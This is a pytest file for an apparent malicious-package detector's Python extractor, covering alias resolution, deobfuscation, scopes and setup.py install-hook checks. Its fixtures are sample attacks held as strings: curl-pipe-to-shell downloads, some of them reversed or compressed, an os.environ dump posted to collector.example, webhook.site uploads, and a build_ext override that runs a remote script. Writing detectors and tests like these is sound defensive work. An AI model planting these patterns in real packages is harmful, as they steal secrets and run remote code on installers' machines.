"""Unit tests of the Python extractor: resolution, folding, scopes, call graph facts, budget."""

from __future__ import annotations

import base64
import time

import pytest

from malseq._deadline import Deadline
from malseq.errors import TimeBudgetExceeded
from malseq.features.budget import CALL_UNITS, FILE_WORK_UNITS, WorkBudget, parse_window
from malseq.features.python import analyse_python, analyse_python_text
from malseq.features.types import MODULE_SCOPE, Binding, CallKind, FileAnalysis
from malseq.intake.package import Language, PackageFile


def _analyse(code: str, path: str = "m.py") -> FileAnalysis:
    return analyse_python_text(path, code.encode())


def _events(code: str, path: str = "m.py") -> set[tuple[str, int]]:
    return {(e.behaviour, e.line) for e in _analyse(code, path).events}


def _behaviours(code: str, path: str = "m.py") -> set[str]:
    return {e.behaviour for e in _analyse(code, path).events}


# --- alias resolution -------------------------------------------------------------------------

def test_import_alias_and_from_import_resolve_to_module_calls() -> None:
    result = _analyse("import subprocess as sp\nfrom os import system as s\nsp.Popen(['x'])\ns('id')\n")
    callees = [c.callee for c in result.calls]
    assert callees == ["subprocess.Popen", "os.system"]
    assert ("run_command", 3) in {(e.behaviour, e.line) for e in result.events}
    assert ("run_command", 4) in {(e.behaviour, e.line) for e in result.events}


def test_dunder_import_getattr_and_folding() -> None:
    code = "getattr(__import__('o' + 's'), ''.join(['sys', 'tem']))('id')\n"
    result = _analyse(code)
    assert "os.system" in [c.callee for c in result.calls]
    assert ("run_command", 1) in {(e.behaviour, e.line) for e in result.events}


def test_importlib_with_folded_name_is_an_import_not_dynamic() -> None:
    code = "import importlib\nm = importlib.import_module('sub' + 'process')\nm.call('ls')\n"
    found = _events(code)
    assert ("import_process_module", 2) in found
    assert ("run_command", 3) in found
    assert not any(b == "dynamic_import" for b, _ in found)
    result = _analyse(code)
    assert Binding("m.py", 2, MODULE_SCOPE, "m", "subprocess", None) in result.bindings


def test_dynamic_import_with_computed_name() -> None:
    assert "dynamic_import" in _behaviours("def f(n):\n    return __import__(n)\n")


def test_builtins_dict_and_globals_tricks() -> None:
    assert "eval_code" in _behaviours("__builtins__.__dict__['ev' + 'al']('1')\n")
    assert "eval_code" in _behaviours("globals()['__builtins__'].exec('x=1')\n")
    assert "eval_code" in _behaviours("import builtins\ngetattr(builtins, 'ex'+'ec')('x=1')\n")


def test_assignment_alias_of_dangerous_function() -> None:
    code = "import os\nrun = os.popen\nrun('uname -a')\n"
    assert ("run_command", 3) in _events(code)


def test_instance_alias_for_sockets() -> None:
    code = "import socket\ns = socket.socket()\ns.connect(('203.0.113.1', 1))\ns.send(b'x')\n"
    found = _events(code)
    assert ("raw_socket", 2) in found
    assert ("upload_data", 4) in found


# --- folding and decoding ---------------------------------------------------------------------

def test_exec_of_base64_is_analysed_as_python_at_the_exec_call() -> None:
    inner = "import socket\nsocket.socket().connect(('203.0.113.1', 9))\n"
    blob = base64.b64encode(inner.encode()).decode()
    code = f"import base64\n\n\nexec(base64.b64decode('{blob}'))\n"
    result = _analyse(code)
    at_exec = {e.behaviour for e in result.events if e.line == 4 and e.column == 0}
    assert {"eval_code", "raw_socket", "import_network_module", "use_ip_address"} <= at_exec


def test_nested_exec_is_depth_bounded() -> None:
    code = "x = 1\n"
    for _ in range(6):
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode()).decode()!r}))\n"
    result = _analyse(code)
    assert "eval_code" in {e.behaviour for e in result.events}
    assert not result.budget_exhausted


def test_zlib_base64_chain_is_folded() -> None:
    import zlib

    payload = base64.b64encode(zlib.compress(b"import os\nos.system('curl http://203.0.113.2/x | sh')\n")).decode()
    code = f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{payload}')))\n"
    assert {"download_and_execute", "run_command", "eval_code"} <= _behaviours(code)


def test_chr_join_reversal_and_bytes() -> None:
    assert "char_code_assembly" in _behaviours("s = ''.join([chr(c) for c in [111, 115, 32, 105]])\n")
    found = _behaviours("cmd = 'hs | 1.2.3.45//:ptth lruc'[::-1]\nimport os\nos.system(cmd)\n")
    assert {"string_reversal", "download_and_execute", "run_command"} <= found
    found = _behaviours("import os\nos.system(bytes([105, 100, 59, 32, 119, 104, 111, 97, 109, 105]).decode())\n")
    assert {"char_code_assembly", "collect_system_info"} <= found


def test_constant_propagation_into_calls() -> None:
    code = "import requests\nURL = 'https://' + 'webhook.site/abc'\nrequests.post(URL, data={'a': 1})\n"
    found = _events(code)
    assert ("upload_data", 3) in found
    assert ("exfiltration_service", 2) in found


def test_python2_exec_statement_and_print() -> None:
    result = _analyse("print 'x'\nexec 'import os'\n")
    assert ("eval_code", 2) in {(e.behaviour, e.line) for e in result.events}
    assert not result.parse_errors


# --- docstrings and comments -----------------------------------------------------------------

def test_docstrings_and_comments_are_not_classified() -> None:
    code = ('"""Reads ~/.ssh/id_rsa? No: https://example.org docs."""\n'
            "# os.system('curl http://x | sh')\n"
            "def f():\n    '''See /etc/passwd format at https://x.org'''\n    return 1\n"
            "class C:\n    \"\"\"webhook.site is mentioned here\"\"\"\n")
    assert _behaviours(code) == set()


def test_non_docstring_strings_are_classified() -> None:
    assert "use_url" in _behaviours("x = 1\n'https://example.org'\n")


# --- scopes, functions, calls, bindings ------------------------------------------------------

SCOPES = """\
import os
from .utils import send as s
from . import helpers
import pkg.mod

def outer():
    def inner():
        os.system('id')
    inner()
    return lambda: s()

class Job(Base):
    attr = os.getenv('X')
    def run(self):
        self.helper()
        t = threading.Thread(target=self.helper)
        atexit.register(outer)
        items.sort(key=lambda v: v)

    def helper(self):
        pass

@decorator
def decorated():
    pass

handler = lambda e: e
"""


def test_qualnames_and_parents() -> None:
    result = _analyse(SCOPES)
    funcs = {f.qualname: f for f in result.functions}
    assert set(funcs) >= {"outer", "outer.inner", "Job", "Job.run", "Job.helper", "decorated", "handler"}
    assert funcs["Job"].is_class and not funcs["Job.run"].is_class
    assert funcs["outer.inner"].parent == "outer"
    assert funcs["Job.run"].parent == "Job"
    lambdas = [q for q in funcs if q.startswith("<lambda@")]
    assert "<lambda@10:11>" in lambdas
    assert funcs["<lambda@10:11>"].parent == "outer"


def test_event_scopes() -> None:
    result = _analyse(SCOPES)
    by_behaviour = {(e.behaviour, e.scope) for e in result.events}
    assert ("run_command", "outer.inner") in by_behaviour
    assert ("read_env", "Job") in by_behaviour


def test_calls_callbacks_inline_and_decorators() -> None:
    result = _analyse(SCOPES)
    calls = {(c.scope, c.callee, c.kind) for c in result.calls}
    assert ("outer", "inner", CallKind.CALL) in calls
    assert ("Job.run", "self.helper", CallKind.CALL) in calls
    assert ("Job.run", "self.helper", CallKind.CALLBACK) in calls  # Thread(target=self.helper)
    assert ("Job.run", "outer", CallKind.CALLBACK) in calls  # atexit.register(outer)
    assert any(c.kind is CallKind.INLINE and c.callee.startswith("<lambda@18:") for c in result.calls)
    assert (MODULE_SCOPE, "decorator", CallKind.CALL) in calls
    assert (MODULE_SCOPE, "Job", CallKind.INLINE) in calls  # the class body runs where defined
    # Arguments that are plain data are not callbacks.
    assert not any(c.kind is CallKind.CALLBACK and c.callee == "e" for c in result.calls)


def test_bindings() -> None:
    result = _analyse(SCOPES)
    got = {(b.name, b.module, b.attribute) for b in result.bindings}
    assert ("os", "os", None) in got
    assert ("s", ".utils", "send") in got
    assert ("helpers", ".", "helpers") in got
    assert ("", "pkg.mod", None) in got
    # Relative-import names keep their local callee: the binding says where they come from.
    assert any(c.callee == "s" for c in result.calls)


def test_positions_are_source_ordered_and_zero_based_columns() -> None:
    result = _analyse("x = 1\n  # c\nif x:\n    import os\n")
    ev = [e for e in result.events if e.behaviour == "import_os_module"][0]
    assert (ev.line, ev.column) == (4, 4)
    keys = [(e.line, e.column) for e in result.events]
    assert keys == sorted(keys)


# --- setup.py ----------------------------------------------------------------------------------

def test_setup_readme_read_is_not_code_execution() -> None:
    code = ("import os\nfrom setuptools import setup\n"
            "long_description = open(os.path.join(os.path.dirname(__file__), 'README.rst')).read()\n"
            "setup(name='x', long_description=long_description)\n")
    assert "setup_code_execution" not in _behaviours(code, "setup.py")


def test_setup_module_level_network_is_code_execution() -> None:
    code = "import requests\nfrom setuptools import setup\nrequests.get('http://203.0.113.3/p')\nsetup(name='x')\n"
    assert ("setup_code_execution", 3) in _events(code, "setup.py")
    # The same code outside setup.py is not an install hook.
    assert "setup_code_execution" not in _behaviours(code, "pkg/other.py")


def test_setup_command_override() -> None:
    code = ("from setuptools import setup\nfrom setuptools.command.install import install\n"
            "class I(install):\n    def run(self):\n        install.run(self)\n"
            "        open('/tmp/marker', 'w').write('x')\n"
            "setup(name='x', cmdclass={'install': I})\n")
    assert ("setup_command_override", 7) in _events(code, "setup.py")
    # One that only calls the base class (or a build tool) is a build step, not an install hook.
    quiet = code.replace("        open('/tmp/marker', 'w').write('x')\n",
                         "        import subprocess\n        subprocess.check_call(['make', 'all'])\n")
    assert "setup_command_override" not in _behaviours(quiet, "setup.py")


# --- robustness and budget -------------------------------------------------------------------

def test_syntax_error_fallback_still_sees_dangerous_calls() -> None:
    code = ("import os\n"
            "def broken(:\n"
            "    x = [1, 2,\n"
            "    os.system('curl http://203.0.113.9/x | sh')\n"
            "    import socket\n"
            "    exec(payload)\n")
    result = _analyse(code)
    assert result.parse_errors
    found = {e.behaviour for e in result.events}
    assert {"run_command", "download_and_execute", "eval_code", "import_network_module"} <= found


def test_garbage_and_binary_input_never_raise() -> None:
    for data in (b"\x00\xff\xfe" * 1000, b"def (((((", b"", "ü = 'ß'\n".encode("latin-1")):
        result = analyse_python(PackageFile("x.py", data, Language.PYTHON, False), Deadline(5))
        assert result.path == "x.py"


def test_big_generated_file_respects_budget() -> None:
    line = "a = b(c, 'd' + e[1:2], lambda f: f.g(h))\n"
    data = (line * (3_000_000 // len(line))).encode()
    # Counted work, not time: the parse reads a bounded head and tail, the walk a bounded count.
    assert parse_window(data) is not None
    work = WorkBudget(FILE_WORK_UNITS)
    result = analyse_python_text("big.py", data, work)
    assert result.budget_exhausted
    assert work.used <= FILE_WORK_UNITS + CALL_UNITS
    assert 0 < len(result.calls) <= FILE_WORK_UNITS // CALL_UNITS
    again = analyse_python(PackageFile("big.py", data, Language.PYTHON, False), Deadline(600))
    assert (again.events, again.calls, again.functions) == (result.events, result.calls, result.functions)


def test_exfiltration_at_the_end_of_a_6mb_generated_module_is_seen() -> None:
    body = "".join(f"a{i} = b(c, 'd' + e[1:2], lambda f: f.g(h))\n" for i in range(131_000))
    tail = "import os\nimport requests\nrequests.post('https://collector.example/x', json=dict(os.environ))\n"
    data = (body + tail).encode()
    assert len(data) > 6_000_000
    result = analyse_python(PackageFile("gen.py", data, Language.PYTHON, False), Deadline(600))
    assert result.budget_exhausted  # the middle was skipped...
    found = {(e.behaviour, e.line) for e in result.events}
    last = data.count(b"\n")
    # ... but the head's budget kept a share for the end of the file, read at its real lines.
    assert ("read_env", last) in found
    assert ("upload_data", last) in found
    assert ("import_os_module", last - 2) in found
    assert result.calls[0].line == 1


def test_expired_deadline_raises_instead_of_returning_less() -> None:
    deadline = Deadline(0.0)
    time.sleep(0.01)
    with pytest.raises(TimeBudgetExceeded):
        analyse_python(PackageFile("x.py", b"import os\nos.system('id')\n" * 5000, Language.PYTHON, False),
                       deadline)


def test_minified_single_line_file_reports_once() -> None:
    code = ";".join(f"v{i}=f({i})" for i in range(3000)) + "\n"
    result = _analyse(code)
    assert [e.behaviour for e in result.events].count("minified_code") == 1


def test_event_cap_per_behaviour_and_scope() -> None:
    code = "import os\n" + "os.system('ls')\n" * 100
    result = _analyse(code)
    assert sum(e.behaviour == "run_command" for e in result.events) == 20


# --- fixes in the shared classifiers (strings.py) --------------------------------------------

def test_browser_cookie_store_is_a_path_not_the_word_cookies() -> None:
    from malseq.features.strings import classify_literal

    assert "read_browser_data" in classify_literal("Cookies")
    chrome = "C:/Users/x/AppData/Local/Google/Chrome/User Data/Default/Network/Cookies"
    assert "read_browser_data" in classify_literal(chrome)
    assert "read_browser_data" not in classify_literal("cookies")
    assert "read_browser_data" not in classify_literal("Set the session cookies before sending")


# --- benign setup.py idioms --------------------------------------------------------------------

def test_setup_version_exec_and_publish_shortcut_are_not_code_execution() -> None:
    code = ("import os, sys\nfrom setuptools import setup\nabout = {}\n"
            "with open(os.path.join('src', 'pkg', '__version__.py')) as f:\n    exec(f.read(), about)\n"
            "if sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist bdist_wheel')\n"
            "    os.system('twine upload dist/*')\n    sys.exit()\n"
            "setup(name='pkg', version=about['__version__'])\n")
    found = _behaviours(code, "setup.py")
    assert "setup_code_execution" not in found
    assert "eval_code" in found  # still reported as what it is


def test_build_ext_override_is_reported_only_when_it_does_something_unusual() -> None:
    plain = ("from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n"
             "class B(build_ext):\n    def run(self):\n        build_ext.run(self)\n"
             "setup(cmdclass={'build_ext': B})\n")
    assert "setup_command_override" not in _behaviours(plain, "setup.py")
    evil = plain.replace("build_ext.run(self)", "__import__('os').system('curl http://203.0.113.1/x|sh')")
    assert "setup_command_override" in _behaviours(evil, "setup.py")


_CONFIG_HELPER = """import os
from setuptools import setup

def cmd1(strings):
    return os.popen(strings).read().split()

def cmd2(strings):
    return cmd1(strings)

flags = cmd2("mecab-config --cflags")
{extra}
setup(name="x")
"""


@pytest.mark.parametrize(("extra", "path", "command"), [
    ("", "setup.py", False),
    ("libs = cmd1(['mecab-config', '--libs'])", "setup.py", False),
    ("", "helpers.py", True),  # another file may import the helper: its callers are out of sight
    ("cmd1('curl -s https://example.org/x | sh')", "setup.py", True),
    ("cmd2(os.environ['CMD'])", "setup.py", True),  # not a literal
    ("cmd2(f'{os.environ[\"X\"]}-config --cflags')", "setup.py", True),
    ("run = cmd1", "setup.py", True),  # the helper passed on: its callers are out of sight
    ("cmd1()", "setup.py", True),  # the argument left out
    ("cmd1(*['id'])", "setup.py", True),
])
def test_setup_helper_running_its_parameter_is_a_build_step_when_every_caller_passes_one(
        extra: str, path: str, command: bool) -> None:
    assert (("run_command", 5) in _events(_CONFIG_HELPER.format(extra=extra), path)) is command


def test_setup_helper_whose_parameter_is_rebound_keeps_its_command() -> None:
    code = _CONFIG_HELPER.format(extra="").replace("    return os.popen",
                                                   "    strings += ' && id'\n    return os.popen")
    assert ("run_command", 6) in _events(code, "setup.py")
